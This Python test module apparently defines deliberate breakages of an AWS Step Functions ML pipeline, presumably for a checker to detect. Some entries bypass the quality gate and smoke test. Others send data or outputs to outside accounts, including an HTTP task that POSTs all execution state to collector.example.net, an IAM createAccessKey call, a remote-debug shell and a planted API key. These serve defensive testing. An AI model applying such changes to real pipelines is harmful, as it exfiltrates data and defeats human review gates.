"""State machines that skip a step, call somebody else or run somebody else's code."""

from __future__ import annotations

import json
from typing import Any

from tests.checks.breakages.breakage import STRANGER, Break, all_states, both, edit, machine, put, state
from tests.checks.mutations import Mutant

MACHINE = "AWS::StepFunctions::StateMachine"
BUCKET = "s3://somebody-elses-bucket/out/"
IMAGE = f"{STRANGER}.dkr.ecr.us-east-1.amazonaws.com/train:1"
States = dict[str, Any]


def parameters(name: str, path: str, value: Any) -> Break:
    """Write at `path` of the parameters of one state; a path that is there by reference goes."""

    def change(states: States) -> None:
        holder = states[name]["Parameters"]
        *way, last = path.split(".")
        for part in way:
            holder = holder[int(part)] if isinstance(holder, list) else holder.setdefault(part, {})
        holder.pop(f"{last}.$", None)
        holder[last] = value

    return machine(change)


def default(choice: str, target: str) -> Break:
    return machine(lambda states: edit(states[choice], {"Default": target}))


def rule(choice: str, number: int, **changes: Any) -> Break:
    return machine(lambda states: edit(states[choice]["Choices"][number], changes))


def caught(name: str, target: str) -> Break:
    return machine(lambda states: states[name]["Catch"].insert(0, {"ErrorEquals": ["States.ALL"], "Next": target}))


def pass_in_between(after: str, before: str, **fields: Any) -> Break:
    """A Pass state between two others."""

    def visit(mutant: Mutant) -> None:
        def change(definition: dict[str, Any]) -> None:
            home = next(s for s in _scopes(definition) if after in s)
            home[after]["Next"] = "Between"
            home["Between"] = {"Type": "Pass", **fields, "Next": before}

        mutant.edit_machine(change)

    return visit


def task(resource: str, parameters: dict[str, Any], **fields: Any) -> Break:
    """One more Task at the beginning."""

    def visit(mutant: Mutant) -> None:
        def change(definition: dict[str, Any]) -> None:
            definition["States"]["Added"] = {
                "Type": "Task", "Resource": resource, "Parameters": parameters, "TimeoutSeconds": 60, "ResultPath": None,
                "Catch": [{"ErrorEquals": ["States.ALL"], "ResultPath": None, "Next": "PlanRun"}], "Next": "PlanRun", **fields,
            }  # fmt: skip
            definition["States"]["ReadInput"]["Next"] = "Added"

        mutant.edit_machine(change)

    return visit


def _scopes(definition: dict[str, Any]) -> list[States]:
    found = [definition["States"]]
    for item in definition["States"].values():
        for inner in (item.get("ItemProcessor"), *item.get("Branches", [])):
            found += _scopes(inner) if inner else []
    return found


def wrapped(branches: bool) -> Break:
    """PublishModel inside a Parallel or a Map, reached from the beginning of the model's flow."""

    def visit(mutant: Mutant) -> None:
        def change(definition: dict[str, Any]) -> None:
            home = next(s for s in _scopes(definition) if "PublishModel" in s)
            inner = {**home["PublishModel"], "End": True}
            del inner["Next"], inner["Catch"]
            nested = {"StartAt": "Inner", "States": {"Inner": {**inner, "Catch": []}}}
            home["ChooseBeginning"]["Default"] = "Wrap"
            home["Wrap"] = {"Type": "Parallel", "Branches": [nested], "Next": "BeginModel"} if branches else {
                "Type": "Map", "ItemsPath": "$.list", "ItemProcessor": nested, "Next": "BeginModel",
            }  # fmt: skip

        mutant.edit_machine(change)

    return visit


def renamed(mutant: Mutant) -> None:
    """Gate and smoke test keep their names and call something harmless."""
    values = mutant.properties(MACHINE)["DefinitionSubstitutions"]
    values["QualityGateArn"] = values["EmitFindingsArn"]


def test_elsewhere(mutant: Mutant) -> None:
    mutant.properties(MACHINE)["DefinitionSubstitutions"]["SmokeTestArn"] = (
        f"arn:aws:lambda:us-east-1:{STRANGER}:function:ok"
    )


def another_handler(name: str) -> Break:
    return put("AWS::Lambda::Function", "Handler", "lambdas.emit_findings.handler.handler", name)


def test_channel(mutant: Mutant) -> None:
    def change(states: States) -> None:
        states["ChannelsWithWeights"]["Parameters"]["list"][1]["DataSource"]["S3DataSource"]["S3Uri.$"] = (
            "States.Format('{}{}/test/', $.run.prepared_uri, $.run.manifest_id)"
        )

    mutant.edit_machine(lambda definition: change(all_states(definition)))


def jsonata(mutant: Mutant) -> None:
    mutant.edit_machine(lambda definition: edit(definition, {"QueryLanguage": "JSONata"}))


def in_a_file(mutant: Mutant) -> None:
    properties = mutant.properties(MACHINE)
    del properties["DefinitionString"]
    properties["DefinitionS3Location"] = {"Bucket": "x", "Key": "y"}


def as_an_object(mutant: Mutant) -> None:
    properties = mutant.properties(MACHINE)
    properties["Definition"] = json.loads(properties.pop("DefinitionString"))


BREAKAGES: dict[str, Break] = {
    "no look at the gate": state("QualityGate", Next="StageArtifact"),
    "a gate that does not matter": default("ChoosePublishing", "StageArtifact"),
    "a gate whose refusal passes": rule("ChoosePublishing", 0, BooleanEquals=False),
    "a gate that is there": rule("ChoosePublishing", 0, BooleanEquals=None, IsPresent=True),
    "another answer of the gate": rule("ChoosePublishing", 0, Variable="$.gate.reason", BooleanEquals=None, IsString=True),
    "a gate whose failure passes": caught("QualityGate", "StageArtifact"),
    "a gate around which a failure leads": caught("QualityGate", "SmokeTest"),
    "an answer that is written in": pass_in_between("QualityGate", "ChoosePublishing", Result={"passed": True, "reason": "", "accuracy": 1}, ResultPath="$.gate"),
    "an answer that the selector writes": machine(lambda s: edit(s["QualityGate"]["ResultSelector"], {"passed.$": None, "passed": True})),
    "a model that was not judged": machine(lambda s: edit(s["StageArtifact"]["Parameters"]["Payload"], {"run_uri.$": "$.model.other_uri"})),
    "evaluation that publishes": state("EvaluateModel", Next="SmokeTest"),
    "training that publishes": machine(lambda s: edit(s["EmitFindings"], {"Next": "PublishModel"})),
    "a beginning that publishes": rule("ChooseBeginning", 1, Next="SmokeTest"),
    "everything begins as staged": default("ChooseBeginning", "BeginStaged"),
    "a model that is not staged begins as such": rule("ChooseBeginning", 0, IsPresent=False),
    "any model begins as staged": rule("ChooseBeginning", 0, Variable="$.loaded.plan.name"),
    "no smoke test": state("RegisterModel", Next="PublishModel"),
    "no look at the smoke test": state("SmokeTest", Next="PublishModel"),
    "a smoke test that does not matter": default("ChooseServing", "PublishModel"),
    "a smoke test that failed": caught("SmokeTest", "PublishModel"),
    "an endpoint that is off": rule("ChooseServing", 1, Next="PublishModel"),
    "a rule that another opens": machine(lambda s: edit(s["ChooseServing"]["Choices"][0], {"Or": [{"Variable": "$.smoke_test.on", "BooleanEquals": True}, {"Variable": "$.run.publish_staged", "BooleanEquals": True}], "Variable": None, "BooleanEquals": None})),
    "a rule turned round": machine(lambda s: edit(s["ChooseServing"]["Choices"][0], {"Not": {"Variable": "$.smoke_test.on", "BooleanEquals": True}, "Variable": None, "BooleanEquals": None})),
    "another model than was tested": machine(lambda s: edit(s["PublishModel"]["Parameters"]["Payload"], {"target_model.$": "$.model.other"})),
    "a champion that is published": machine(lambda s: edit(s["FindChampion"]["Parameters"]["Payload"], {"action": "publish"})),
    "an action that the input chooses": machine(lambda s: edit(s["FindChampion"]["Parameters"]["Payload"], {"action": None, "action.$": "$.model.action"})),
    "publishing in a Parallel": wrapped(branches=True),
    "publishing in a Map": wrapped(branches=False),
    "approval without a test": machine(lambda s: edit(s["RegisterModel"]["Parameters"]["Payload"], {"approved": True})),
    "a gate by name only": renamed,
    "a gate of other code": another_handler("FunctionsQualityGate"),
    "a smoke test elsewhere": test_elsewhere,
    "a call over HTTP": task("arn:aws:states:::http:invoke", {"ApiEndpoint": "https://collector.example.net", "Method": "POST", "RequestBody.$": "$"}),
    "a container task": task("arn:aws:states:::ecs:runTask.sync", {"TaskDefinition": "x"}),
    "another machine": task("arn:aws:states:::states:startExecution", {"StateMachineArn": "x"}),
    "an SDK call": task("arn:aws:states:::aws-sdk:iam:createAccessKey", {"UserName": "x"}),
    "an endpoint by an SDK call": task("arn:aws:states:::aws-sdk:sagemaker:updateEndpoint", {"EndpointName": "x", "EndpointConfigName": "y"}),
    "a function elsewhere": task("arn:aws:states:::lambda:invoke", {"FunctionName": f"arn:aws:lambda:us-east-1:{STRANGER}:function:x", "Payload.$": "$"}),
    "an activity": task("arn:aws:states:us-east-1:123456789012:activity:x", {}),
    "a role of another account": task("arn:aws:states:::lambda:invoke", {"FunctionName": "${PlanRunArn}"}, Credentials={"RoleArn": f"arn:aws:iam::{STRANGER}:role/x"}),
    "a message elsewhere": parameters("Notify", "TopicArn", f"arn:aws:sns:us-east-1:{STRANGER}:x"),
    "an object elsewhere": parameters("SaveHyperparameters", "Bucket", "somebody-elses-bucket"),
    "outputs elsewhere": parameters("TrainModel", "OutputDataConfig.S3OutputPath", BUCKET),
    "outputs where the input says": machine(lambda s: edit(s["TrainModel"]["Parameters"]["OutputDataConfig"], {"S3OutputPath.$": "$$.Execution.Input.output"})),
    "outputs of a step elsewhere": parameters("EvaluateModel", "ProcessingOutputConfig.Outputs.0.S3Output.S3Uri", BUCKET),
    "checkpoints elsewhere": parameters("TrainModel", "CheckpointConfig.S3Uri", BUCKET),
    "outputs formatted elsewhere": machine(lambda s: edit(s["TrainModel"]["Parameters"]["OutputDataConfig"], {"S3OutputPath.$": "States.Format('s3://somebody-elses/{}', $.model.name)"})),
    "outputs with another key": parameters("TrainModel", "OutputDataConfig.KmsKeyId", f"arn:aws:kms:us-east-1:{STRANGER}:key/x"),
    "an image of another account": parameters("TrainModel", "AlgorithmSpecification.TrainingImage", IMAGE),
    "an image of a trial": machine(lambda s: edit(s["TuneModel"]["Parameters"]["TrainingJobDefinition"]["AlgorithmSpecification"], {"TrainingImage": IMAGE})),
    "an image that the input chooses": machine(lambda s: edit(s["TrainModel"]["Parameters"]["AlgorithmSpecification"], {"TrainingImage": None, "TrainingImage.$": "$.model.image"})),
    "an algorithm of a market": machine(lambda s: edit(s["TrainModel"]["Parameters"]["AlgorithmSpecification"], {"TrainingImage": None, "AlgorithmName": "somebody"})),
    "an image of evaluation": parameters("EvaluateModel", "AppSpecification.ImageUri", "docker.io/somebody/jobs"),
    "thirty days of training": parameters("TrainModel", "StoppingCondition.MaxRuntimeInSeconds", 30 * 86400),
    "thirty days of a search": parameters("TuneModel", "HyperParameterTuningJobConfig.ResourceLimits.MaxRuntimeInSeconds", 30 * 86400),
    "thirty days of preparing": parameters("PrepareDataset", "StoppingCondition.MaxRuntimeInSeconds", 2_592_000),
    "no limit of training": machine(lambda s: edit(s["TrainModel"]["Parameters"], {"StoppingCondition": None})),
    "a limit that the input chooses": machine(lambda s: edit(s["TrainModel"]["Parameters"]["StoppingCondition"], {"MaxRuntimeInSeconds.$": "$.input.seconds"})),
    "thirty days of waiting for a task": state("TrainModel", TimeoutSeconds=2_592_000),
    "a machine of a year": lambda m: m.edit_machine(lambda d: edit(d, {"TimeoutSeconds": 31_536_000})),
    "training with internet": parameters("TrainModel", "EnableNetworkIsolation", False),
    "training without a network": machine(lambda s: edit(s["TrainModel"]["Parameters"], {"VpcConfig": None})),
    "a shell in training": parameters("TrainModel", "RemoteDebugConfig.EnableRemoteDebug", True),
    "a secret in training": parameters("TrainModel", "Environment.WANDB_API_KEY", "0123456789abcdef"),
    "a channel of the test split": test_channel,
    "a role that the input chooses": machine(lambda s: edit(s["TrainModel"]["Parameters"], {"RoleArn": None, "RoleArn.$": "$.model.role"})),
    "logs that are off": put(MACHINE, "LoggingConfiguration", {"Level": "OFF"}),
    "logs with data": put(MACHINE, "LoggingConfiguration.IncludeExecutionData", True),
    "an express machine": put(MACHINE, "StateMachineType", "EXPRESS"),
    "JSONata": jsonata,
    "JSONata in one state": state("TrainModel", QueryLanguage="JSONata"),
    "a definition in a file": in_a_file,
    "a definition as an object": as_an_object,
    "another role of the machine": put(MACHINE, "RoleArn", "arn:aws:iam::123456789012:role/Admin"),
    "a gate and a test of nothing": both(state("RegisterModel", Next="PublishModel"), another_handler("FunctionsSmokeTest")),
}  # fmt: skip
